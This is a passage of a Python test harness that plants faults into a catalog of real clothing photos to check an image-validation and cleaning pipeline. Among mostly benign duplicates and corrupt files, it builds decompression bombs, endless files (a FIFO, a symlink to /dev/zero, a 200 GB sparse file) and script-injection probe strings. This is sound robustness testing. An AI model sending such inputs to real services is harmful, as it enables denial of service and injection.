"""Plants faults into a catalog of real photos, with the truth about each, and asks validation and cleaning for them.

The real photos are read where they are, through a link; what is planted is written beside it. Every row that is planted
has one entry in the truth: what validation must call it, whether cleaning must drop it and why, and what must become of
its labels. Rows named "fine" must pass untouched.

    cd tests && python -m quality.planting clothing --seeds 3     # the table of docs/results/quality-planted.md
"""

import argparse
import io
import json
import os
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from random import Random
from unittest import mock

import numpy as np
import pandas as pd
from PIL import ExifTags, Image, ImageCms, ImageDraw, PngImagePlugin

from vitrine.catalog import Catalog, read_catalog, write_catalog
from vitrine.catalog.ingest import ingest
from vitrine.catalog.photos import UPRIGHT
from vitrine.catalog.schema import row_errors
from vitrine.catalog.table import TEXT
from vitrine.quality import rules
from vitrine.quality.clean import clean_catalog
from vitrine.quality.split import split_catalog
from vitrine.quality.validate import validate_catalog

Row = dict[str, str]
REAL = "real"  # the link to the data set's folder
ANY = "*"  # validation may say what it likes
LABEL, CLASS = "attr:planted", "Planted/Things"  # what planted rows are labelled with
CLASS_LEVEL_RULES = ("rare_classes", "unlabelled", "huge_photos")  # say nothing about what was planted in a row


@dataclass(frozen=True)
class Planted:
    """A catalog with faults.

    Attributes:
        catalog: Real rows first, then the planted ones.
        truth: One entry per planted row: `image`, `row` (0-based), `kind`, `detail`; `reported`, the rules of which one
            must list the row ("" none, `ANY` whichever); `dropped`, the rules of which one must drop it ("" stays);
            `copy_of`, the image of which it is a copy: of the two one must go, with the other as evidence; `together`,
            a name that rows share which no split may part; `becomes`, column to value after cleaning.
        real: The real rows alone.
    """

    catalog: Catalog
    truth: pd.DataFrame
    real: Catalog


@dataclass
class Bed:
    """Where a kind is planted: real rows to copy, and real photos that are in no row."""

    folder: Path
    table: pd.DataFrame
    sources: Iterator[int]
    fresh_rows: Iterator[int]
    everything: Catalog
    random: Random = field(default_factory=Random)
    kind: str = ""
    rows: list[Row] = field(default_factory=list)
    truth: list[dict[str, object]] = field(default_factory=list)

    def source(self) -> tuple[Row, bytes, Image.Image]:
        """A real row of the catalog: a row that copies it, its bytes and its photo."""
        row = self.table.iloc[next(self.sources)].to_dict()
        data = (self.folder / row["image"]).read_bytes()
        own = {"of": row["image"], "listing": "", "product": "", "user": self.name(), "description": self.name()}
        return row | own, data, Image.open(io.BytesIO(data)).convert("RGB")

    def fresh(self) -> tuple[Row, Image.Image]:
        """A real photo that is in no row and not grey itself, and a fully labelled row for it."""
        for number in self.fresh_rows:
            row = self.everything.table.iloc[number]
            photo = Image.open(self.everything.uri(row["image"])).convert("RGB")
            if np.ptp(np.asarray(photo).astype(int), axis=2).mean() > 4:
                labels = {LABEL: "plain", "category": CLASS, "domain": row.get("domain", "")}
                return labels | {"user": self.name(), "description": self.name()}, photo
        raise AssertionError("no photo is left to plant with: take fewer rows or fewer kinds")

    def name(self) -> str:
        """A word that no other row holds."""
        return f"{self.kind}-{len(self.rows)}-{self.random.randrange(10**6)}"

    def add(
        self,
        row: Row,
        data: bytes | Image.Image | None,
        suffix: str = ".jpg",
        detail: str = "",
        reported: str = "",
        dropped: str = "",
        together: str = "",
        becomes: Row | None = None,
    ) -> Row:
        """Adds a row; its photo is written under a new name unless it names one, and `of` says what it copies."""
        row = dict(row)
        copy_of = row.pop("of", "")
        if data is not None:
            row["image"] = f"planted/{self.name()}{suffix}"
            content = data if isinstance(data, bytes) else encoded(data, "PNG" if suffix == ".png" else "JPEG")
            (self.folder / row["image"]).write_bytes(content)
        entry = {"image": row["image"], "row": len(self.table) + len(self.rows), "kind": self.kind, "detail": detail}
        wanted = {"reported": reported, "dropped": dropped, "copy_of": copy_of, "together": together}
        self.truth.append(entry | wanted | {"becomes": becomes or {}})
        self.rows.append(row)
        return row


def plant(
    catalog: Catalog,
    out: Path,
    seed: int,
    kinds: Iterable[str] | None = None,
    rows: int = 400,
    looks: np.ndarray | None = None,
) -> Planted:
    """Plants into a sample of a catalog's rows.

    Args:
        catalog: Real photos in a local folder.
        out: New folder.
        seed: Another seed takes other photos and other parameters.
        kinds: Names from `KINDS`; by default all.
        rows: Real rows that stay; other photos of the catalog are what faults are made of.
        looks: `thumbnails(catalog)`, if there already; without, only of the photos that may be taken.
    """
    (out / "planted").mkdir(parents=True)
    (out / REAL).symlink_to(catalog.root, target_is_directory=True)
    random = Random(f"{seed}/planting")
    order = random.sample(range(len(catalog)), len(catalog))
    kept, spare = order[:rows], order[rows : rows + 700]
    chosen = kept + spare
    seen = thumbnails(catalog, chosen) if looks is None else looks[chosen]
    alone = unlike_any(seen)
    table = catalog.table.iloc[sorted(kept)].reset_index(drop=True)
    table["image"] = (REAL + "/" + table["image"]).astype(TEXT)
    place = {row: number for number, row in enumerate(sorted(kept))}
    sources = iter([place[row] for row, own in zip(kept, alone[: len(kept)], strict=True) if own])
    fresh = iter([row for row, own in zip(spare, alone[len(kept) :], strict=True) if own])
    bed = Bed(out, table, sources, fresh, catalog)
    for kind in KINDS if kinds is None else kinds:
        bed.kind, bed.random = kind, Random(f"{seed}/{kind}")
        KINDS[kind](bed)
    whole = pd.concat([table, pd.DataFrame(bed.rows)], ignore_index=True).fillna("")
    for name in whole:
        whole[name] = whole[name].astype(TEXT)
    planted = Catalog(str(out.absolute()), whole)
    write_catalog(planted, out)
    real = planted.with_table(whole.iloc[: len(table)])
    return Planted(planted, pd.DataFrame(bed.truth), real)


def thumbnails(catalog: Catalog, rows: Iterable[int] | None = None) -> np.ndarray:
    """What photos look like in 8 x 8 x 3 values, (rows, 192): told apart without asking the code under test."""
    images = catalog.table["image"] if rows is None else catalog.table["image"].iloc[list(rows)]
    small = [Image.open(catalog.uri(image)).convert("RGB").resize((8, 8), Image.Resampling.BOX) for image in images]
    return np.stack([np.asarray(image, dtype=np.float32).ravel() for image in small])


def unlike_any(looks: np.ndarray, apart: float = 6.0) -> np.ndarray:
    """Which photos have some texture and look like no other, mirrored ones included."""
    mirrored = looks.reshape(-1, 8, 8, 3)[:, :, ::-1].reshape(len(looks), -1)
    nearest = np.empty(len(looks))
    for row in range(len(looks)):
        gaps = np.minimum(np.abs(looks - looks[row]).mean(axis=1), np.abs(mirrored - looks[row]).mean(axis=1))
        gaps[row] = np.inf
        nearest[row] = gaps.min()
    return (nearest > apart) & (looks.std(axis=1) > 15)


# What became of it.


@dataclass(frozen=True)
class PhotoPredictions:
    """What validation, cleaning and splitting made of a planted catalog.

    Attributes:
        truth: The truth and `found` (validation lists the row as it must), `right` (cleaning drops or keeps it as it
            must, with the right evidence), `labels` (they are what they must be), `kept_together` (no split parts it)
            and `hits` and `drop`, what was said.
        lost: Real rows that cleaning drops with the plants and not without them, with rule, reason and evidence.
    """

    truth: pd.DataFrame
    lost: pd.DataFrame


def examine(planted: Planted, work: Path, min_class_count: int = 20) -> PhotoPredictions:
    """Validates, cleans and splits a planted catalog, and cleans its real rows alone."""
    with mock.patch.object(rules, "EXAMPLES", len(planted.catalog)):  # reports show a dozen rows of each rule
        results = validate_catalog(planted.catalog, work / "report", workers=2).results
    listed = {result.name: set(result.examples) for result in results if result.name not in CLASS_LEVEL_RULES}
    clean_catalog(planted.catalog, work / "clean", min_class_count, workers=2)
    clean_catalog(planted.real, work / "clean-real", min_class_count, workers=2)
    split_catalog(read_catalog(work / "clean"), work / "split-clean", gallery=False)
    unsafe = (row_errors(planted.catalog.table) != "").to_numpy()
    split_catalog(planted.catalog.with_table(planted.catalog.table[~unsafe]), work / "split", workers=2, gallery=False)
    drops = pd.read_parquet(work / "clean/dropped.parquet")
    drops.index = drops["row"].to_numpy() - 1
    staying = np.setdiff1d(np.arange(len(planted.catalog)), drops.index)
    cleaned = read_catalog(work / "clean").table.set_axis(staying)
    parts = [
        read_catalog(work / "split").table["split"].set_axis(np.flatnonzero(~unsafe)),
        read_catalog(work / "split-clean").table["split"].set_axis(staying),
    ]
    table = planted.catalog.table
    result = []
    for entry in planted.truth.to_dict("records"):
        row = entry["row"]
        # What a photo's look says of its label is an opinion, whatever else is planted there.
        hits = [name for name, rows in listed.items() if row + 1 in rows and name != "label_noise"]
        drop, other = (
            (tuple(drops.loc[row, ["rule", "evidence"]]) if row in drops.index else ("", "")),
            entry["copy_of"],
        )
        if other:
            twin = int(np.flatnonzero(table["image"] == other)[0])
            if not drop[0] and twin in drops.index and drops.loc[twin, "evidence"] == entry["image"]:
                drop = (drops.loc[twin, "rule"], other)  # the larger copy stays
        allowed = entry["dropped"].split("|")
        becomes = entry["becomes"] if row in cleaned.index else {}
        mates = planted.truth.loc[planted.truth["together"] == entry["together"], "row"] if entry["together"] else [row]
        result.append(
            entry
            | {
                "hits": "|".join(hits),
                "drop": drop[0],
                "found": _listed(entry["reported"], hits),
                "right": drop[0] in allowed and (not other or not drop[0] or drop[1] == other),
                "labels": all(cleaned.at[row, name] == value for name, value in becomes.items()),
                "kept_together": all(part.reindex(mates).dropna().nunique() <= 1 for part in parts),
            }
        )
    before = pd.read_parquet(work / "clean-real/dropped.parquet")["row"] - 1
    mine = drops[(drops.index < len(planted.real)) & ~drops["evidence"].str.startswith("planted/")]
    lost = mine[~mine.index.isin(before)]
    return PhotoPredictions(pd.DataFrame(result), lost[["image", "rule", "reason", "evidence"]])


def _listed(wanted: str, hits: list[str]) -> bool:
    return wanted == ANY or (not hits if not wanted else any(rule in hits for rule in wanted.split("|")))


# Photos as files.


def encoded(image: Image.Image, form: str = "JPEG", **options: object) -> bytes:
    """A photo as a file of this format."""
    buffer = io.BytesIO()
    image.save(buffer, form, **options)
    return buffer.getvalue()


def cropped(image: Image.Image, left: float, top: float, right: float, bottom: float) -> Image.Image:
    """Cuts shares of the width and height off each side, to a fraction of a pixel, as from a larger original."""
    width, height = image.size
    box = (width * left, height * top, width * (1 - right), height * (1 - bottom))
    size = (max(1, round(box[2] - box[0])), max(1, round(box[3] - box[1])))
    return image.resize(size, Image.Resampling.LANCZOS, box=box)


def scaled(image: Image.Image, share: float, method: Image.Resampling = Image.Resampling.LANCZOS) -> Image.Image:
    """The photo with sides of `share` their length."""
    return image.resize((max(1, round(image.width * share)), max(1, round(image.height * share))), method)


def lying(image: Image.Image, orientation: int) -> bytes:
    """Stored so that only its EXIF orientation tells how to look at it."""
    undo = {
        Image.Transpose.ROTATE_90: Image.Transpose.ROTATE_270,
        Image.Transpose.ROTATE_270: Image.Transpose.ROTATE_90,
    }
    turn = UPRIGHT.get(orientation)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return encoded(image if turn is None else image.transpose(undo.get(turn, turn)), quality=88, exif=exif)


def with_exif(image: Image.Image, payload: bytes) -> bytes:
    """A JPEG with these bytes as its APP1 segment."""
    data = encoded(image)
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def png_file(width: int, height: int, compressed: bytes, colour: int = 0, depth: int = 8) -> bytes:
    """A PNG of this header and these compressed rows."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", compressed) + chunk(b"IEND", b"")


def png_16_bit(image: Image.Image) -> bytes:
    """A PNG of 16 bits a channel, which Pillow cannot write."""
    values = np.asarray(image).astype(">u2") * 257
    lines = b"".join(b"\0" + line.tobytes() for line in values)
    colour = {"RGB": 2, "RGBA": 6}[image.mode]
    return png_file(image.width, image.height, zlib.compress(lines), colour, 16)


@cache
def _black_png(side: int) -> bytes:
    """A whole grey PNG of side x side black pixels: some kilobytes."""
    packer = zlib.compressobj(9)
    line = bytes(side + 1)
    return png_file(side, side, b"".join([*(packer.compress(line) for _ in range(side)), packer.flush()]))


# Copies of photos that are in the catalog.

NEAR = {"reported": "near_duplicates", "dropped": "near_duplicates"}
EXACT = {"reported": "exact_duplicates", "dropped": "exact_duplicates"}


def copy_rules(photo: Image.Image, data: bytes) -> dict[str, str]:
    """What must be said of a copy: a JPEG saved again with the tables it came with can keep every pixel."""
    again = Image.open(io.BytesIO(data)).convert("RGB")
    return EXACT if again.size == photo.size and again.tobytes() == photo.tobytes() else NEAR


def exact_copy(bed: Bed) -> None:
    for _ in range(3):
        row, data, _photo = bed.source()
        bed.add(row, data, detail="same bytes", **EXACT)
    row, _, photo = bed.source()
    bed.add(row, encoded(photo, "PNG"), ".png", "same pixels as PNG", **EXACT)
    row, data, _photo = bed.source()
    row["image"] = row["of"]
    bed.add(row, None, detail="same path in two rows", **EXACT)
    row, data, _photo = bed.source()
    row["image"] = row["of"].replace("/", "/./", 1)
    bed.add(row, None, detail="same file by another path", **EXACT)


def reencoded_copy(bed: Bed) -> None:
    for form, low, high in (("JPEG", 40, 60), ("JPEG", 60, 80), ("JPEG", 80, 95), ("WEBP", 40, 70), ("WEBP", 70, 95)):
        row, _, photo = bed.source()
        options = {"quality": bed.random.randint(low, high)}
        if form == "JPEG":
            options |= {"subsampling": bed.random.choice((0, 1, 2)), "progressive": bed.random.random() < 0.5}
        data = encoded(photo, form, **options)
        bed.add(row, data, f".{form.lower()}", f"{form} {options}", **copy_rules(photo, data))
    row, _, photo = bed.source()
    bed.add(row, encoded(photo.quantize(256), "GIF"), ".gif", "GIF of 256 colours", **NEAR)
    row, _, photo = bed.source()
    report = NEAR["reported"]
    bed.add(row, encoded(photo.convert("CMYK")), ".jpg", "CMYK", report, NEAR["dropped"])


def resized_copy(bed: Bed) -> None:
    methods = [Image.Resampling[name] for name in ("BILINEAR", "BICUBIC", "LANCZOS", "BOX", "HAMMING")]
    for low, high in ((0.5, 0.6), (0.6, 0.8), (0.8, 1), (1, 1.2), (1.2, 1.4), (1.4, 1.6)):
        row, _, photo = bed.source()
        share, method, quality = bed.random.uniform(low, high), bed.random.choice(methods), bed.random.randint(70, 95)
        copy = scaled(photo, share, method)
        bed.add(row, encoded(copy, quality=quality), ".jpg", f"{share:.2f} {method.name} q{quality}", **NEAR)


def _crop(bed: Bed, sides: list[float], share: float = 1, quality: int = 85) -> None:
    row, _, photo = bed.source()
    detail = " ".join(f"{100 * side:.1f}" for side in sides) + f" %, {share:.2f}, q{quality}"
    bed.add(row, encoded(scaled(cropped(photo, *sides), share), quality=quality), ".jpg", detail, **NEAR)


def slightly_cropped_copy(bed: Bed) -> None:
    for _ in range(4):
        _crop(bed, [bed.random.uniform(0.01, 0.02) for _ in range(4)], quality=bed.random.randint(70, 95))
    _crop(bed, bed.random.sample([0.02, 0, 0, 0], 4))
    _crop(bed, bed.random.choice([[0.02, 0.02, 0, 0], [0, 0, 0.02, 0.02], [0.02, 0, 0, 0.02], [0, 0.02, 0.02, 0]]))


def cropped_copy(bed: Bed) -> None:
    """Crops of up to 4 % a side: what is promised for most of them only."""
    for _ in range(5):
        _crop(bed, [bed.random.uniform(0.01, 0.04) for _ in range(4)], quality=bed.random.randint(70, 95))
    _crop(bed, bed.random.sample([0.04, 0, 0, 0], 4))
    _crop(bed, bed.random.choice([[0.04, 0.04, 0, 0], [0, 0, 0.04, 0.04], [0.04, 0, 0, 0.04], [0, 0.04, 0.04, 0]]))
    _crop(bed, [bed.random.uniform(0.01, 0.03) for _ in range(4)], bed.random.uniform(0.6, 1.3), 65)


def lying_copy(bed: Bed) -> None:
    for orientation in range(1, 9):
        row, _, photo = bed.source()
        bed.add(row, lying(photo, orientation), ".jpg", f"EXIF orientation {orientation}", **NEAR)


def mirrored_copy(bed: Bed) -> None:
    """Another photo for a model, but no other evidence: it stays, and no split parts it from its original."""
    for share in (0, 0.02):
        row, photo = bed.fresh()
        bed.add(row, photo, ".png", "mirrored pair", together=row["user"])
        turned = cropped(photo.transpose(Image.Transpose.FLIP_LEFT_RIGHT), share, share, 0, share / 2)
        pair = row["user"]
        bed.add(row | {"user": bed.name(), "description": bed.name()}, turned, detail=f"crop {share}", together=pair)


def completing_copy(bed: Bed) -> None:
    """Each copy knows a label that the other lacks: the one that stays takes it over."""
    for form, wanted in (("PNG", EXACT), ("JPEG", NEAR)):
        row, photo = bed.fresh()
        whole = {LABEL: "plain", "category": CLASS}
        first = bed.add(row | {LABEL: ""}, photo, ".png", f"{form}, knows the category", ANY, becomes=whole)
        own = {"category": "", "of": first["image"], "user": bed.name(), "description": bed.name()}
        suffix, data = (".png", photo) if form == "PNG" else (".jpg", encoded(photo, quality=80))
        wanted = wanted if form == "PNG" else copy_rules(photo, data)
        bed.add(row | own, data, suffix, f"{form}, knows the label", becomes=whole, **wanted)


def copies_that_stay(bed: Bed) -> None:
    """Photos that are meant to look alike: of one listing, of shop and user, of two items in one photo."""
    row, photo = bed.fresh()
    row |= {"listing": bed.name()}
    bed.add(row, photo, ".png", "first of a listing", together=row["user"])
    bed.add(row | {"description": row["description"]}, photo, detail="again in the listing", together=row["user"])
    row, photo = bed.fresh()
    row |= {"product": bed.name()}
    bed.add(row | {"domain": "shop"}, photo, ".png", "the shop's", together=row["product"])
    own = {"domain": "user", "user": bed.name(), "description": bed.name()}
    bed.add(row | own, cropped(photo, 0.01, 0.02, 0.01, 0), detail="the user's", together=row["product"])
    row, photo = bed.fresh()
    first = bed.add(row | {"bbox": "0,0,20,20"}, photo, detail="two boxes", together=row["user"])
    bed.add(first | {"bbox": "20,0,20,20", "description": bed.name()}, None, detail="two boxes", together=row["user"])


def colours_that_stay(bed: Bed) -> None:
    """One product in two colours, photographed alike: two listings, labelled so or not labelled."""
    for labelled in (True, False):
        row, photo = _colourful(bed)
        hue, saturation, value = photo.convert("HSV").split()
        turn = bed.random.randint(70, 180)
        other = Image.merge("HSV", (hue.point(lambda level, turn=turn: (level + turn) % 256), saturation, value))
        colours = ({"attr:colour": "one"}, {"attr:colour": "another"}) if labelled else ({}, {})
        bed.add(row | colours[0], photo, ".png", f"hue, labelled {labelled}")
        own = {"user": bed.name(), "description": bed.name()}
        bed.add(row | colours[1] | own, other.convert("RGB"), detail=f"hue + {turn}, labelled {labelled}")


def _colourful(bed: Bed) -> tuple[Row, Image.Image]:
    while True:
        row, photo = bed.fresh()
        saturation = np.asarray(photo.convert("HSV"))[..., 1:].min(axis=2)  # of bright pixels
        if (saturation > 80).mean() > 0.15:
            return row, photo


# Files that are not what they should be.

UNREADABLE = {"reported": "unreadable_photos", "dropped": "unreadable_photos"}


def truncated(bed: Bed) -> None:
    forms = [("JPEG", {}), ("JPEG", {"progressive": True}), ("PNG", {}), ("WEBP", {}), ("GIF", {}), ("TIFF", {})]
    for form, options in [*forms, ("large JPEG", {}), ("large JPEG", {"progressive": True}), ("BMP", {})]:
        row, photo = bed.fresh()
        photo = photo.resize((1200, 1200 * photo.height // photo.width)) if form.startswith("large") else photo
        data = encoded(photo, form.removeprefix("large "), **options)
        for share in (0.1, 0.5, 0.99, bed.random.uniform(0.02, 0.98)):
            detail = f"{form} {options} after {share:.0%}"
            own = {"user": bed.name(), "description": bed.name()}
            suffix = f".{form.removeprefix('large ').lower()}"
            bed.add(row | own, data[: int(len(data) * share)], suffix, detail, **UNREADABLE)


def wrong_extension(bed: Bed) -> None:
    cases = (("PNG", ".jpg"), ("WEBP", ".png"), ("JPEG", ".png"), ("JPEG", ".webp"), ("GIF", ".JPG"), ("PNG", ".tif"))
    for form, suffix in cases:
        row, photo = bed.fresh()
        bed.add(row, encoded(photo, form), suffix, f"{form} named {suffix}", "wrong_extension")
    row, data, _photo = bed.source()
    bed.add(row, data, ".png", "the bytes of a photo that is rightly named", "wrong_extension", "exact_duplicates")


def no_photo(bed: Bed) -> None:
    row, photo = bed.fresh()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("photo.jpg", encoded(photo))
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 5120\n"
    cases = {
        "text": (".jpg", b"404 not found\n"),
        "HTML": (".jpg", b"<!doctype html><html><body><script>alert(1)</script></body></html>"),
        "JSON": (".png", json.dumps({"error": "gone"}).encode()),
        "ZIP": (".png", archive.getvalue()),
        "PDF": (".jpg", b"%PDF-1.4\n1 0 obj\n"),
        "SVG": (".png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "EPS": (".jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n"),
        "PPM": (".jpg", encoded(photo, "PPM")),
        "HEIC": (".jpg", b"\0\0\0\x18ftypheic" + bytes(300)),
        "LFS pointer": (".jpg", pointer),
        "random bytes": (".jpg", bed.random.randbytes(4000)),
        "empty": (".jpg", b""),
    }
    for detail, (suffix, data) in cases.items():
        bed.add(row | {"user": bed.name(), "description": bed.name()}, data, suffix, detail, **UNREADABLE)
    (bed.folder / "planted/folder.jpg").mkdir()
    bed.add(row | {"image": "planted/folder.jpg", "description": bed.name()}, None, detail="a folder", **UNREADABLE)


def tiny(bed: Bed) -> None:
    sizes = {(1, 1): True, (1, 200): True, (7, 5): True, (5000, 3): True, (8, 8): False, (31, 40): False}
    for size, unusable in sizes.items():
        row, photo = bed.fresh()
        small = encoded(photo.resize(size), "PNG")
        bed.add(row, small, ".png", f"{size}", "tiny_photos", "tiny_photos" if unusable else "")


def bomb(bed: Bed) -> None:
    row, photo = bed.fresh()
    gif = bytearray(encoded(photo, "GIF"))
    gif[6:10] = struct.pack("<HH", 65535, 65535)
    jpeg = bytearray(encoded(photo))
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", 65000, 65000)
    text = PngImagePlugin.PngInfo()
    text.add_text("comment", "x" * 70_000_000, zip=True)
    cases = {
        "PNG header of 60,000 x 60,000": (".png", png_file(60000, 60000, zlib.compress(bytes(1000)))),
        "PNG header of 2^31 x 2^31": (".png", png_file(2**31 - 1, 2**31 - 1, zlib.compress(bytes(1000)))),
        "whole PNG of 20,000 x 20,000": (".png", _black_png(20_000)),
        "GIF canvas of 65,535 x 65,535": (".gif", bytes(gif)),
        "JPEG header of 65,000 x 65,000": (".jpg", bytes(jpeg)),
        "PNG with 70 MB of compressed text": (".png", encoded(photo, "PNG", pnginfo=text)),
    }
    for detail, (suffix, data) in cases.items():
        bed.add(row | {"user": bed.name(), "description": bed.name()}, data, suffix, detail, **UNREADABLE)


def endless(bed: Bed) -> None:
    """Files that never end, or only after the memory has."""
    row, _ = bed.fresh()
    os.mkfifo(bed.folder / "planted/pipe.jpg")
    (bed.folder / "planted/zero.jpg").symlink_to("/dev/zero")
    with (bed.folder / "planted/sparse.jpg").open("wb") as file:
        file.truncate(200 * 2**30)
    for name in ("pipe", "zero", "sparse"):
        image = f"planted/{name}.jpg"
        bed.add(row | {"image": image, "description": bed.name()}, None, detail=name, **UNREADABLE)


def blank(bed: Bed) -> None:
    random = np.random.default_rng(bed.random.randrange(2**32))
    shape = (128, 96, 3)
    pixels = {
        "black": np.zeros(shape),
        "white": np.full(shape, 255),
        "plain": np.broadcast_to(random.integers(0, 256, 3), shape),
        "black with noise 1": random.integers(0, 2, shape),
        "white with noise 1": 255 - random.integers(0, 2, shape),
        "grey with noise 2": 128 + random.integers(-2, 3, shape),
    }
    row, _ = bed.fresh()
    wanted = {"reported": "blank_photos", "dropped": "blank_photos"}
    for detail, values in pixels.items():
        own = {"user": bed.name(), "description": bed.name()}
        image = Image.fromarray(values.astype(np.uint8))
        bed.add(row | own, encoded(image, "PNG"), ".png", detail, **wanted)
        bed.add(
            row | own | {"description": bed.name()}, encoded(image, quality=80), ".jpg", f"{detail}, JPEG", **wanted
        )
    clear = Image.new("RGBA", (96, 96), (200, 10, 10, 0))
    bed.add(row | {"description": bed.name()}, encoded(clear, "PNG"), ".png", "transparent", **wanted)


def grey(bed: Bed) -> None:
    def cases(photo: Image.Image) -> dict[str, tuple[str, bytes]]:
        plain = photo.convert("L")
        return {
            "L JPEG": (".jpg", encoded(plain)),
            "L PNG": (".png", encoded(plain, "PNG")),
            "LA PNG": (".png", encoded(plain.convert("LA"), "PNG")),
            "black and white PNG": (".png", encoded(photo.convert("1"), "PNG")),
            "RGB JPEG": (".jpg", encoded(plain.convert("RGB"), quality=60)),
            "RGB PNG": (".png", encoded(plain.convert("RGB"), "PNG")),
            "RGB WEBP": (".webp", encoded(plain.convert("RGB"), "WEBP", quality=60)),
        }

    for detail in cases(Image.new("RGB", (8, 8))):
        row, photo = bed.fresh()
        suffix, data = cases(photo)[detail]
        bed.add(row, data, suffix, detail, "grey_photos")


def unusual(bed: Bed) -> None:
    """Print colours, more than 8 bits, animations: reported, and kept."""

    def several(photo: Image.Image) -> dict[str, object]:
        return {"save_all": True, "append_images": [photo.rotate(angle) for angle in (4, 8)]}

    def deep(photo: Image.Image) -> Image.Image:
        return Image.fromarray(np.asarray(photo.convert("L")).astype(np.uint16) * 257)

    def lab(photo: Image.Image) -> Image.Image:
        profiles = ImageCms.createProfile("sRGB"), ImageCms.createProfile("LAB")
        return ImageCms.profileToProfile(photo, *profiles, outputMode="LAB")

    cases: dict[str, tuple[str, Callable[[Image.Image], bytes]]] = {
        "CMYK JPEG": (".jpg", lambda photo: encoded(photo.convert("CMYK"), quality=90)),
        "CMYK TIFF": (".tif", lambda photo: encoded(photo.convert("CMYK"), "TIFF")),
        "LAB TIFF": (".tif", lambda photo: encoded(lab(photo), "TIFF")),
        "grey 16-bit PNG": (".png", lambda photo: encoded(deep(photo), "PNG")),
        "grey 16-bit TIFF": (".tif", lambda photo: encoded(deep(photo), "TIFF")),
        "RGB 16-bit PNG": (".png", png_16_bit),
        "RGBA 16-bit PNG": (".png", lambda photo: png_16_bit(photo.convert("RGBA"))),
        "animated GIF": (".gif", lambda photo: encoded(photo, "GIF", **several(photo))),
        "animated PNG": (".png", lambda photo: encoded(photo, "PNG", **several(photo))),
        "animated WEBP": (".webp", lambda photo: encoded(photo, "WEBP", **several(photo))),
        "TIFF of three pages": (".tif", lambda photo: encoded(photo, "TIFF", **several(photo))),
    }
    for detail, (suffix, make) in cases.items():
        row, photo = bed.fresh()
        bed.add(row, make(photo), suffix, detail, "unusual_mode")


def adobe_cmyk(bed: Bed) -> None:
    """Without Adobe's marker too: what its colours mean is then open, but it is a photo."""
    row, photo = bed.fresh()
    data = encoded(photo.convert("CMYK"), quality=90)
    at = data.index(b"\xff\xee")
    length = struct.unpack(">H", data[at + 2 : at + 4])[0]
    bed.add(row, data[:at] + data[at + 2 + length :], ".jpg", "no Adobe marker", "unusual_mode")


def odd_exif(bed: Bed) -> None:
    head = b"Exif\0\0II*\0\x08\0\0\0"

    def orientation(kind: int, count: int, value: bytes, tail: bytes = b"") -> bytes:
        return head + b"\x01\0" + struct.pack("<HHI4s", 0x112, kind, count, value) + bytes(4) + tail

    cases = {
        "no TIFF header": b"Exif\0\0" + b"junk" * 5,
        "empty": b"Exif\0\0",
        "orientation as text": orientation(2, 2, b"6"),
        "orientation 0": orientation(3, 1, b"\0"),
        "orientation 99": orientation(3, 1, b"\x63"),
        "orientation twice": orientation(3, 2, b"\x06\0\x06\0"),
        "orientation as a fraction": orientation(5, 1, b"\x1a", struct.pack("<II", 6, 0)),
        "65,535 entries": head + b"\xff\xff" + b"\x12\x01" * 40,
        "offset beyond the end": b"Exif\0\0II*\0\xff\xff\xff\x7f",
        "XMP with an odd orientation": b'http://ns.adobe.com/xap/1.0/\0<x tiff:Orientation="banana"/>',
        "60 kB": head + b"\x01\0" + struct.pack("<HHII", 0x9286, 7, 60_000, 26) + bytes(4) + b"x" * 60_000,
    }
    for detail, payload in cases.items():
        row, photo = bed.fresh()
        bed.add(row, with_exif(photo, payload), ".jpg", detail)


def fine_file(bed: Bed) -> None:
    def screenshot(photo: Image.Image) -> Image.Image:
        page = Image.new("RGB", (240, 320), "white")
        pen = ImageDraw.Draw(page)
        for line in range(12):
            pen.text(
                (8, 12 + 24 * line), f"size {line}: {photo.width * line} {bed.random.random():.6f}", fill=(20, 60, 160)
            )
        return page

    def noise(photo: Image.Image) -> Image.Image:
        values = np.random.default_rng(bed.random.randrange(2**32)).integers(0, 256, (photo.height, photo.width, 3))
        return Image.fromarray(values.astype(np.uint8))

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    cases: dict[str, tuple[str, Callable[[Image.Image], bytes]]] = {
        "JPEG with random bytes after it": (".jpg", lambda photo: encoded(photo) + bed.random.randbytes(5000)),
        "JPEG with a page after it": (".jpg", lambda photo: encoded(photo) + b"<script>alert(1)</script>" * 40),
        "PNG with bytes after it": (".png", lambda photo: encoded(photo, "PNG") + bed.random.randbytes(5000)),
        "colour profile": (".jpg", lambda photo: encoded(photo, icc_profile=profile)),
        "palette": (".png", lambda photo: encoded(photo.quantize(200), "PNG")),
        "palette with a clear colour": (".png", lambda photo: encoded(photo.quantize(60), "PNG", transparency=3)),
        "RGBA": (".png", lambda photo: encoded(photo.convert("RGBA"), "PNG")),
        "progressive": (".jpeg", lambda photo: encoded(photo, progressive=True)),
        "capital letters": (".JPG", encoded),
        "two photos in one file": (".jpg", lambda photo: encoded(photo, "MPO", save_all=True, append_images=[photo])),
        "BMP": (".bmp", lambda photo: encoded(photo, "BMP")),
        "TIFF": (".tiff", lambda photo: encoded(photo, "TIFF", compression="tiff_lzw")),
        "still GIF": (".gif", lambda photo: encoded(photo, "GIF")),
        "PNG with 0.5 MB of text": (".png", _with_text),
        "screenshot of text": (".png", lambda photo: encoded(screenshot(photo), "PNG")),
        "noise": (".png", lambda photo: encoded(noise(photo), "PNG")),
        "no extension": ("", encoded),
    }
    for detail, (suffix, make) in cases.items():
        row, photo = bed.fresh()
        # Thin letters on white are brighter than any garment: a warning is right where photos are of another kind.
